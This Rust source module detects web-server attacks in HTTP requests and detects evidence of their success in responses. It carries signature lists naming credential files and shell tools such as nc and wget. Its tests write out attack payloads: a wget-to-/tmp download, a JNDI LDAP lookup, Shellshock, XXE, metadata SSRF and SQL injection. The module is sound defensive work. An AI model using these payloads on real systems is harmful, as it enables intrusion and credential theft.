//! Signs of attacks on web servers in what a client asks, and proof of them in what the server answers.
//!
//! A sign is a fixed text that stands where people's input goes, after decoding twice at most. One sign is often an
//! accident (a search for "union select", a blog post about `<script>`), so most count one, and only what nobody
//! writes by accident counts two.

use super::Content;

/// Bytes of a decoded target or body that are looked at.
const LOOKED_AT: usize = 8 * 1024;

macro_rules! signs {
    ($($bit:literal $name:ident $group:ident $weight:literal $text:literal;)*) => {
        #[allow(missing_docs)]
        impl Signs { $(pub const $name: Signs = Signs(1 << $bit);)* }
        /// Bit, group, weight and text of each sign.
        const ALL: &[(u32, Group, u32, &str)] = &[$((1 << $bit, Group::$group, $weight, $text),)*];
    };
}

/// A set of signs.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Signs(u32);

/// Kinds of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Group {
    #[allow(missing_docs)]
    Sql,
    #[allow(missing_docs)]
    Script,
    #[allow(missing_docs)]
    Path,
    #[allow(missing_docs)]
    Command,
    #[allow(missing_docs)]
    Log4Shell,
    #[allow(missing_docs)]
    Xml,
    #[allow(missing_docs)]
    Ssrf,
    #[allow(missing_docs)]
    WebShell,
    /// A server that breaks under it.
    Broken,
}

impl Group {
    /// Name for people and evidence.
    pub const fn name(self) -> &'static str {
        match self {
            Group::Sql => "SQL injection",
            Group::Script => "cross-site scripting",
            Group::Path => "path traversal",
            Group::Command => "command injection",
            Group::Log4Shell => "Log4Shell",
            Group::Xml => "XML external entity",
            Group::Ssrf => "server-side request forgery",
            Group::WebShell => "web shell",
            Group::Broken => "server error",
        }
    }
}

signs! {
    0 UNION Sql 1 "union select";
    1 TAUTOLOGY Sql 1 "or 1=1";
    2 SCHEMA Sql 1 "names of system tables";
    3 TIMING Sql 1 "sleep or benchmark";
    4 EXTRACT Sql 1 "functions that extract data";
    5 QUOTE Sql 1 "a quote that ends a statement";
    8 SCRIPT Script 1 "a script tag";
    9 HANDLER Script 1 "an event handler";
    10 DIALOG Script 1 "alert or cookie access";
    12 DOTS Path 1 "../ repeated";
    13 FILE Path 1 "a system file";
    14 ENCODED Path 1 "../ in disguise";
    16 SHELL Command 1 "a shell command behind a separator";
    17 FETCH Command 2 "download and run";
    18 SHELLSHOCK Command 2 "a shell function in a header";
    19 EXPLOIT Command 2 "a known exploit";
    20 JNDI Log4Shell 2 "a JNDI look-up";
    22 ENTITY Xml 2 "an external entity";
    24 METADATA Ssrf 2 "the cloud metadata address";
    25 SCHEME Ssrf 1 "an odd URL scheme";
    28 SHELL_PARAMETER WebShell 2 "a command for a script";
    29 PHP WebShell 2 "PHP code";
    31 BROKE Broken 1 "an error 500 in answer";
}

impl Signs {
    /// Whether there is none.
    pub const fn is_empty(self) -> bool {
        self.0 == 0
    }
    /// Both sets.
    #[must_use]
    pub const fn with(self, other: Signs) -> Signs {
        Signs(self.0 | other.0)
    }
    /// Sum of the weights: two are needed.
    pub fn weight(self) -> u32 {
        ALL.iter().filter(|(bit, ..)| self.0 & bit != 0).map(|(_, _, weight, _)| weight).sum()
    }
    /// The largest sum of weights within one kind of attack: signs of one kind seen one after the other add up.
    pub fn of_one_kind(self) -> u32 {
        let of =
            |group: Group| self.of().filter(|(_, g, ..)| *g == group).map(|(_, _, weight, _)| weight).sum();
        self.groups().into_iter().map(of).max().unwrap_or(0)
    }
    /// The kinds of attack, each once, in the order of the table.
    pub fn groups(self) -> Vec<Group> {
        let mut groups: Vec<Group> = self.of().map(|(_, group, ..)| *group).collect();
        groups.dedup();
        groups
    }
    /// The texts of the signs.
    pub fn texts(self) -> Vec<&'static str> {
        self.of().map(|(.., text)| *text).collect()
    }
    fn of(self) -> impl Iterator<Item = &'static (u32, Group, u32, &'static str)> {
        ALL.iter().filter(move |(bit, ..)| self.0 & bit != 0)
    }
    fn has(self, group: Group) -> bool {
        self.of().any(|(_, g, ..)| *g == group)
    }
    fn add(&mut self, when: bool, sign: Signs) {
        if when {
            self.0 |= sign.0;
        }
    }
}

/// What an attack looked like, and whether it worked.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Seen {
    /// Signs in the request.
    pub signs: Signs,
    /// What the answer shows, once it is there.
    pub proof: Option<&'static str>,
}

/// Signs in a request head: in its target, and in any header.
pub fn in_head(head: &[u8], target: &str) -> Signs {
    let mut signs = Signs::default();
    let target = target.as_bytes();
    if target.iter().any(|b| b"%'\"<>;|$`({\\*".contains(b)) || has(target, b"..") || has(target, b"=") {
        signs = in_target(target);
    }
    if has_any(head, &[b"${", b"$%", b"() {"]) {
        let head = normal(&head[..head.len().min(LOOKED_AT)], false);
        signs.add(is_jndi(&head), Signs::JNDI);
        signs.add(has(&head, b"() {") && has(&head, b";"), Signs::SHELLSHOCK);
    }
    signs
}

/// Signs in a body, or in the beginning of one. Pages are written in bodies, so script in them counts once.
pub fn in_body(content: Content, body: &[u8]) -> Signs {
    let body = &body[..body.len().min(LOOKED_AT)];
    let mut signs = Signs::default();
    match content {
        Content::Form => body.split(|b| *b == b'&').for_each(|field| signs = signs.with(in_value(field))),
        Content::Json => body.split(|b| *b == b'"').for_each(|text| signs = signs.with(in_value(text))),
        Content::Other => return signs,
        Content::Xml | Content::Multipart | Content::Text => signs = in_text(&normal(body, false)),
    }
    let whole = normal(body, content == Content::Form);
    signs.add(is_external_entity(&whole), Signs::ENTITY);
    signs.add(has_any(&whole, &[b"eval(base64_decode(", b"@eval(", b"eval($_", b"system($_"]), Signs::PHP);
    if signs.has(Group::Script) {
        let script = Signs::SCRIPT.0 | Signs::HANDLER.0 | Signs::DIALOG.0;
        signs = Signs(signs.0 & !script | Signs::SCRIPT.0);
    }
    signs
}

fn in_target(target: &[u8]) -> Signs {
    let (path, query) = match target.iter().position(|b| *b == b'?') {
        Some(at) => (&target[..at], &target[at + 1..]),
        None => (target, &[][..]),
    };
    let mut signs = if is_plain(path, b"-_~.,:/") && !has(path, b"..") {
        Signs::default()
    } else {
        in_text(&normal(path, false))
    };
    for field in query.split(|b| *b == b'&') {
        signs = signs.with(in_value(field));
    }
    let raw: Vec<u8> = target.to_ascii_lowercase();
    let bytes = Bytes::of(&raw);
    let disguised: [&[u8]; 8] =
        [b"%2e%2e", b".%2e/", b"%2e./", b"..%2f", b"..%5c", b"%252e", b"%c0%af", b"%c0%ae"];
    signs.add(bytes.has_any(&raw, &disguised), Signs::ENCODED);
    signs.add(bytes.has_any(&raw, &FILES), Signs::FILE);
    signs.add(bytes.has_any(&raw, &EXPLOITS), Signs::EXPLOIT);
    signs.add(is_shell_parameter(path, query), Signs::SHELL_PARAMETER);
    signs
}

/// Signs in one field: `name=value`, or a value alone. Whole SQL statements are what database tools send.
fn in_value(field: &[u8]) -> Signs {
    if is_plain(field, b"-_~=,") {
        return Signs::default();
    }
    let value = field.iter().position(|b| *b == b'=').map_or(field, |at| &field[at + 1..]);
    let text = normal(field, true);
    let statement = normal(value, true);
    let statement = statement.trim_ascii_start();
    let verbs: [&[u8]; 9] =
        [b"select ", b"insert ", b"update ", b"delete ", b"create ", b"show ", b"alter ", b"with ", b"("];
    let mut signs = in_text(&text);
    if verbs.iter().any(|verb| statement.starts_with(verb)) {
        let sql =
            ALL.iter().filter(|(_, group, ..)| *group == Group::Sql).fold(0, |all, (bit, ..)| all | bit);
        signs = Signs(signs.0 & !sql);
    }
    let value = statement;
    let metadata: [&[u8]; 3] = [b"169.254.169.254", b"metadata.google.internal", b"100.100.100.200"];
    signs.add(has_any(value, &metadata), Signs::METADATA);
    let schemes: [&[u8]; 5] = [b"file:///", b"gopher://", b"dict://", b"php://", b"expect://"];
    signs.add(schemes.iter().any(|s| value.starts_with(s)), Signs::SCHEME);
    signs
}

/// Files that nobody asks a web server for.
const FILES: [&[u8]; 10] = [
    b"etc/passwd",
    b"etc/shadow",
    b"windows/win.ini",
    b"windows\\win.ini",
    b"boot.ini",
    b"/proc/self/",
    b"windows/system32",
    b"web-inf/web.xml",
    b".ssh/id_rsa",
    b"bin/sh",
];
/// Parts of requests that use a known hole.
const EXPLOITS: [&[u8]; 7] = [
    b"call_user_func_array",
    b"class.module.classloader",
    b"auto_prepend_file",
    b"php://input",
    b"eval-stdin.php",
    b"todo=syscmd",
    b"php://filter/",
];

/// Whether `text` holds nothing but letters, digits and these, with which most fields are over: no sign can be in it.
fn is_plain(text: &[u8], more: &[u8]) -> bool {
    text.iter().all(|b| b.is_ascii_alphanumeric() || more.contains(b))
}

/// Signs in text that was decoded and folded.
fn in_text(text: &[u8]) -> Signs {
    let mut s = Signs::default();
    let bytes = Bytes::of(text);
    let any = |needles: &[&[u8]]| bytes.has_any(text, needles);
    s.add(any(&[b"union select", b"union all select", b"union(select"]), Signs::UNION);
    s.add(bytes.hold(b"= ") && any(&[b"or ", b"and "]) && is_tautology(text), Signs::TAUTOLOGY);
    let tables: [&[u8]; 6] =
        [b"information_schema", b"pg_catalog", b"sysobjects", b"sqlite_master", b"@@version", b"xp_cmdshell"];
    s.add(any(&tables), Signs::SCHEMA);
    let waits: [&[u8]; 5] = [b" sleep(", b"benchmark(", b"waitfor delay", b"pg_sleep(", b"(sleep("];
    s.add(any(&waits), Signs::TIMING);
    let extracts: [&[u8]; 7] = [
        b"extractvalue(",
        b"updatexml(",
        b"load_file(",
        b"into outfile",
        b"group_concat(",
        b"concat(0x",
        b"null,null,null",
    ];
    s.add(any(&extracts), Signs::EXTRACT);
    let ends: [&[u8]; 7] = [b"'--", b"' --", b"' #", b"';", b"' order by ", b"' and ", b"') "];
    s.add(any(&ends), Signs::QUOTE);
    s.add(any(&[b"<script"]), Signs::SCRIPT);
    let handlers: [&[u8]; 6] =
        [b"onerror=", b"onload=", b"onmouseover=", b"onfocus=", b"=javascript:", b"<svg"];
    s.add(any(&handlers), Signs::HANDLER);
    let dialogs: [&[u8]; 5] = [b"alert(", b"alert`", b"prompt(", b"document.cookie", b"string.fromcharcode"];
    s.add(any(&dialogs), Signs::DIALOG);
    s.add(bytes.hold(b".") && count(text, b"../") + count(text, b"..\\") >= 2, Signs::DOTS);
    s.add(any(&FILES), Signs::FILE);
    let (shell, fetch) = commands(text);
    s.add(shell, Signs::SHELL);
    s.add(fetch, Signs::FETCH);
    s.add(bytes.hold(b"${") && is_jndi(text), Signs::JNDI);
    s.add(any(&EXPLOITS), Signs::EXPLOIT);
    s
}

/// `${jndi:`, also in the disguises that look-ups inside look-ups give it.
fn is_jndi(text: &[u8]) -> bool {
    let inside: [&[u8]; 4] = [b"${::-", b"${lower:", b"${upper:", b"${env:"];
    has(text, b"${jndi:") || (has(text, b"${${") && has_any(text, &inside) && has(text, b"di"))
}

fn is_external_entity(text: &[u8]) -> bool {
    let entity = text.windows(8).position(|w| w == b"<!entity").map(|at| &text[at..]);
    entity.is_some_and(|rest| has_any(rest, &[b" system ", b" public "]))
}

/// `or 1=1`, `and 'a'='a`: two equal literals behind `or` or `and`.
fn is_tautology(text: &[u8]) -> bool {
    let literal = |part: &[u8]| {
        let bare: Vec<u8> = part.iter().copied().filter(|b| !b"'\"() ".contains(b)).collect();
        (!bare.is_empty() && bare.len() <= 16 && bare.iter().all(u8::is_ascii_alphanumeric)).then_some(bare)
    };
    text.windows(4).enumerate().any(|(at, w)| {
        let word =
            if matches!(w, b"or 1" | b"or '" | b"or \"" | b"or (") || w.starts_with(b"or ") { 3 } else { 4 };
        let begins = at == 0 || b" '\")(;0123456789".contains(&text[at - 1]);
        if !begins || !(w.starts_with(b"or ") || w == b"and ") {
            return false;
        }
        let rest = &text[at + word..];
        let Some(equals) = rest.iter().take(24).position(|b| *b == b'=') else { return false };
        let right = &rest[equals + 1..];
        let space = right
            .iter()
            .take(24)
            .skip(1)
            .position(|b| b" -#&;)/".contains(b))
            .map_or(right.len().min(24), |n| n + 1);
        let (Some(left), Some(right)) = (literal(&rest[..equals]), literal(&right[..space])) else {
            return false;
        };
        let numbers = |n: &[u8]| n.iter().all(u8::is_ascii_digit);
        left == right || (numbers(&left) && numbers(&right))
    })
}

/// Words that come behind a separator in an injected command.
const COMMANDS: [&[u8]; 24] = [
    b"id",
    b"whoami",
    b"cat",
    b"ls",
    b"wget",
    b"curl",
    b"nc",
    b"ping",
    b"uname",
    b"sleep",
    b"bash",
    b"sh",
    b"tftp",
    b"busybox",
    b"chmod",
    b"rm",
    b"echo",
    b"powershell",
    b"dir",
    b"type",
    b"net",
    b"ipconfig",
    b"ifconfig",
    b"nslookup",
];

/// Whether there is a command behind a separator, and one that downloads.
fn commands(text: &[u8]) -> (bool, bool) {
    let (mut shell, mut fetch) = (false, false);
    for (at, b) in text.iter().enumerate() {
        let after = match b {
            b';' | b'|' | b'`' | b'\n' => &text[at + 1..],
            b'&' if text.get(at + 1) == Some(&b'&') => &text[at + 2..],
            b'$' if text.get(at + 1) == Some(&b'(') => &text[at + 2..],
            _ => continue,
        };
        let after = after.trim_ascii_start();
        let after = after.strip_prefix(b"/bin/").or(after.strip_prefix(b"/usr/bin/")).unwrap_or(after);
        let word = &after[..after.iter().position(|b| !b.is_ascii_lowercase()).unwrap_or(after.len())];
        let ended = after.get(word.len()).is_none_or(|b| b" ;|&)`'\"\n$>".contains(b));
        shell |= ended && COMMANDS.contains(&word) && !has(word, b"=");
        let loads = matches!(word, b"wget" | b"curl" | b"tftp" | b"busybox") && ended;
        fetch |= loads && has_any(after, &[b"http://", b"https://", b"/tmp/", b" -g ", b".sh"]);
    }
    let bare = has_any(text, &[b"wget http", b"curl http"])
        && has_any(text, &[b"chmod ", b"| sh", b"|sh", b"/tmp/"]);
    (shell, fetch || bare)
}

/// A script that is handed a command: `shell.php?cmd=id`.
fn is_shell_parameter(path: &[u8], query: &[u8]) -> bool {
    let path = path.to_ascii_lowercase();
    let script =
        [&b".php"[..], b".asp", b".aspx", b".jsp", b".jspx", b".cgi"].iter().any(|end| path.ends_with(end));
    script
        && query.split(|b| *b == b'&').any(|field| {
            let Some(equals) = field.iter().position(|b| *b == b'=') else { return false };
            let name = field[..equals].to_ascii_lowercase();
            let value = normal(&field[equals + 1..], true);
            let word = value.trim_ascii().split(|b| !b.is_ascii_lowercase()).next().unwrap_or_default();
            let named = [&b"cmd"[..], b"exec", b"command", b"c", b"execute", b"shell"].contains(&&name[..]);
            named && (COMMANDS.contains(&word) || matches!(word, b"systeminfo" | b"ps" | b"netstat" | b"pwd"))
        })
}

/// What the answer to a request with these signs proves. `text` is a part of the body.
pub fn proof(signs: Signs, text: &[u8]) -> Option<&'static str> {
    let reads = signs.has(Group::Path) || signs.has(Group::Xml) || signs.has(Group::Ssrf);
    let runs = signs.has(Group::Command) || signs.has(Group::WebShell) || signs.has(Group::Log4Shell);
    let files: [&[u8]; 4] = [b"root:x:0:0:", b"root:*:0:0:", b"[boot loader]", b"; for 16-bit app support"];
    let output: [&[u8]; 5] = [
        b"nt authority\\system",
        b"Windows IP Configuration",
        b"Volume Serial Number",
        b"root:x:0:0:",
        b"GNU/Linux",
    ];
    let errors: [&[u8]; 9] = [
        b"You have an error in your SQL syntax",
        b"SQLSTATE[",
        b"ORA-0",
        b"Unclosed quotation mark",
        b"unterminated quoted string",
        b"sqlite3.OperationalError",
        b"SQLite3::query()",
        b"syntax error at or near",
        b"mysql_fetch",
    ];
    let scripts: [&[u8]; 4] =
        [b"<script>alert(", b"onerror=alert(", b"onload=alert(", b"<script>document.location"];
    if (reads || runs) && has_any(text, &files) {
        Some("the content of a system file")
    } else if runs && (has_any(text, &output) || has_uid(text)) {
        Some("the output of a command")
    } else if signs.has(Group::Sql) && has_any(text, &errors) {
        Some("an error of the database")
    } else if signs.has(Group::Script) && has_any(text, &scripts) {
        Some("the script, unchanged")
    } else if signs.has(Group::Ssrf)
        && has_any(text, &[b"SecretAccessKey", b"security-credentials", b"ami-id"])
    {
        Some("cloud metadata")
    } else {
        None
    }
}

/// `uid=33(www-data) gid=`.
fn has_uid(text: &[u8]) -> bool {
    text.windows(4).enumerate().any(|(at, w)| {
        w == b"uid=" && text.get(at + 4).is_some_and(u8::is_ascii_digit) && {
            let rest = &text[at..text.len().min(at + 80)];
            has(rest, b"(") && has(rest, b") gid=")
        }
    })
}

/// Percent-decoded; `plus` stands for a space in forms.
pub fn percent_decoded(text: &[u8], plus: bool) -> Vec<u8> {
    let hex = |at: usize| text.get(at).and_then(|b| (*b as char).to_digit(16)).map(|d| d as u8);
    let (mut out, mut at) = (Vec::with_capacity(text.len()), 0);
    while let Some(byte) = text.get(at) {
        match (byte, hex(at + 1), hex(at + 2)) {
            (b'%', Some(high), Some(low)) => {
                out.push(high << 4 | low);
                at += 2;
            }
            (b'+', ..) if plus => out.push(b' '),
            _ => out.push(*byte),
        }
        at += 1;
    }
    out
}

/// Decoded twice where it is encoded twice, lower case, comments and white space folded to single spaces.
fn normal(text: &[u8], plus: bool) -> Vec<u8> {
    let mut text = percent_decoded(&text[..text.len().min(LOOKED_AT)], plus);
    if text.contains(&b'%') {
        text = percent_decoded(&text, false);
    }
    let (mut out, mut at): (Vec<u8>, usize) = (Vec::with_capacity(text.len()), 0);
    while let Some(byte) = text.get(at) {
        let comment = text[at..].starts_with(b"/**/") || text[at..].starts_with(b"/*!");
        at += if comment { 3 } else { 1 };
        match byte {
            b'/' if comment && text.get(at) == Some(&b'/') => at += 1,
            b'\n' => {}
            b if comment || b.is_ascii_whitespace() => {}
            b => {
                out.push(b.to_ascii_lowercase());
                continue;
            }
        }
        if *byte == b'\n' {
            out.push(b'\n');
        } else if out.last() != Some(&b' ') {
            out.push(b' ');
        }
    }
    out
}

fn has_any(text: &[u8], needles: &[&[u8]]) -> bool {
    needles.iter().any(|needle| has(text, needle))
}

fn has(text: &[u8], needle: &[u8]) -> bool {
    let Some(first) = needle.first() else { return true };
    memchr::memchr_iter(*first, text).any(|at| text[at..].starts_with(needle))
}

/// Which bytes a text holds: most fields hold none of those that a needle needs, and are not searched for it.
struct Bytes([u64; 4]);

impl Bytes {
    fn of(text: &[u8]) -> Bytes {
        let mut held = [0; 4];
        for byte in text {
            held[usize::from(byte >> 6)] |= 1 << (byte & 63);
        }
        Bytes(held)
    }
    fn hold(&self, needle: &[u8]) -> bool {
        needle.iter().all(|b| self.0[usize::from(b >> 6)] & 1 << (b & 63) != 0)
    }
    /// Whether `text`, whose bytes these are, holds one of the needles.
    fn has_any(&self, text: &[u8], needles: &[&[u8]]) -> bool {
        needles.iter().any(|needle| self.hold(needle) && has(text, needle))
    }
}

fn count(text: &[u8], needle: &[u8]) -> usize {
    text.windows(needle.len()).filter(|w| *w == needle).count()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn head(target: &str) -> Signs {
        in_head(format!("GET {target} HTTP/1.1\r\nHost: a\r\n\r\n").as_bytes(), target)
    }

    #[test]
    fn attacks_have_two_signs_or_one_that_counts_two() {
        for (target, group) in [
            ("/p?id=1%27%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--%20-", Group::Sql),
            ("/p?id=1+and+4821=4821+union/**/select+1,group_concat(table_name)", Group::Sql),
            ("/p?id=1'+or+'1'='1'--+", Group::Sql),
            ("/p?id=1%2527%2520AND%2520SLEEP(5)--", Group::Sql),
            ("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", Group::Script),
            ("/s?q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E", Group::Script),
            ("/get?f=../../../../etc/passwd", Group::Path),
            ("/cgi-bin/.%2e/%2e%2e/%2e%2e/bin/sh", Group::Path),
            ("/ping?host=127.0.0.1;cat+/etc/passwd", Group::Command),
            ("/d?x=1%3Bwget%20http://203.0.113.9/a.sh%20-O%20/tmp/a", Group::Command),
            ("/?x=${jndi:ldap://203.0.113.9/a}", Group::Log4Shell),
            ("/fetch?url=http://169.254.169.254/latest/meta-data/", Group::Ssrf),
            ("/up/shell.php?cmd=whoami", Group::WebShell),
        ] {
            let signs = head(target);
            assert!(signs.weight() >= 2, "{target}: {:?}", signs.texts());
            assert!(signs.groups().contains(&group), "{target}: {:?}", signs.groups());
        }
    }

    #[test]
    fn headers_are_looked_at_for_what_only_attackers_write_there() {
        let jndi = b"GET / HTTP/1.1\r\nUser-Agent: ${${lower:j}n${::-di}:ldap://x/a}\r\n\r\n";
        assert_eq!(in_head(jndi, "/"), Signs::JNDI);
        let shock = b"GET /cgi-bin/a HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c id\r\n\r\n";
        assert_eq!(in_head(shock, "/cgi-bin/a"), Signs::SHELLSHOCK);
        let browser = b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11) Gecko/1 (like) {x}; y\r\n\r\n";
        assert_eq!(in_head(browser, "/"), Signs::default());
    }

    #[test]
    fn what_people_write_has_one_sign_at_most() {
        for target in [
            "/search?q=select+a+union",
            "/search?q=union+select+wages",
            "/search?q=rock+and+roll+1=2",
            "/static/../assets/logo.png",
            "/a/../../b/c.css",
            "/search?q=how+to+alert%28%29+in+javascript",
            "/query?db=home&q=SELECT+mean(%22value%22)+FROM+a+WHERE+x=1+or+1=1+UNION+SELECT+2",
            "/api?filter=(name='x')&sort=id;asc",
            "/list?url=http://192.168.1.5/x&cmd=play",
            "/cgi-bin/api.cgi?cmd=GetDevInfo&user=a",
            "/?s=O'Brien;+ls+and+dir",
            "/w/index.php?title=Shell;cat&c=1",
            "/?expr=a|b",
            "/x?t=1;id=5",
        ] {
            assert!(head(target).weight() <= 1, "{target}: {:?}", head(target).texts());
        }
    }

    #[test]
    fn a_page_posted_by_its_author_and_a_query_of_a_database_tool_are_no_attack() {
        let post =
            b"title=Hello&body=<p onclick='x()'>See <script>alert(document.cookie)</script> <svg onload=a()>";
        assert_eq!(in_body(Content::Form, post).weight(), 1);
        let query = b"db=shop&sql_query=SELECT+table_name+FROM+information_schema.tables+UNION+SELECT+1--+'";
        assert!(in_body(Content::Form, query).weight() <= 1);
        let grafana = br#"{"rawSql":"SELECT a FROM information_schema.tables UNION ALL SELECT 1","x":"1"}"#;
        assert!(in_body(Content::Json, grafana).weight() <= 1);
        let login = b"user=admin'+or+'1'='1'--+&password=x";
        assert!(in_body(Content::Form, login).weight() >= 2);
        let entity =
            br#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>"#;
        assert!(in_body(Content::Xml, entity).groups().contains(&Group::Xml));
    }

    #[test]
    fn the_answer_proves_only_what_was_tried() {
        let passwd = b"root:x:0:0:root:/root:/bin/bash\n";
        assert!(proof(Signs::DOTS.with(Signs::FILE), passwd).is_some());
        assert!(proof(Signs::UNION, passwd).is_none());
        assert!(proof(Signs::SHELL, b"uid=33(www-data) gid=33(www-data)").is_some());
        assert!(proof(Signs::SHELL, b"?uid=33&gid=7").is_none());
        assert!(proof(Signs::QUOTE, b"...You have an error in your SQL syntax; check").is_some());
        assert!(proof(Signs::SCRIPT, b"&lt;script&gt;alert(1)").is_none());
    }

    proptest! {
        #[test]
        fn any_bytes_are_survived(bytes in proptest::collection::vec(any::<u8>(), 0..400), text in "[a-z%0-9'=;|<>$(){}/. +]{0,80}") {
            for content in [Content::Form, Content::Json, Content::Multipart, Content::Xml] {
                let _ = (in_body(content, &bytes), in_body(content, text.as_bytes()));
            }
            let _ = (in_head(&bytes, &text), proof(Signs(u32::MAX), &bytes));
            prop_assert!(normal(&bytes, true).len() <= bytes.len() + 1);
        }
    }
}
